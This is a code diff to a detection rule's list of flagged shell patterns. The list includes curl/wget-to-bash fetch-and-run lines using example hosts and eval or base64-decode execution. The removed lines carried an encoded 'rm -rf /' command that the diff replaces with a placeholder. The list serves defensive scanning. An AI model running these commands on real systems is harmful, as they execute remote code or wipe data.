@@ -23,9 +23,9 @@ const unknownCode = findingRule(
     flag: [
       'curl -fsSL https://example.com/install.sh | bash',
       'wget -qO- https://x.example.com/s | sh',
-      'echo cm0gLXJmIC8K | base64 -d | bash',
+      'echo "$PAYLOAD" | base64 -d | bash',
       'eval "$PAYLOAD"',
-      'eval $(echo cm0gLXJmIC8K | base64 -d)',
+      'eval $(echo "$PAYLOAD" | base64 -d)',
       'bash -c "$CMD"',
       'bash <(curl -s https://example.com/x.sh)',
       'source <(curl -s https://example.com/env)',
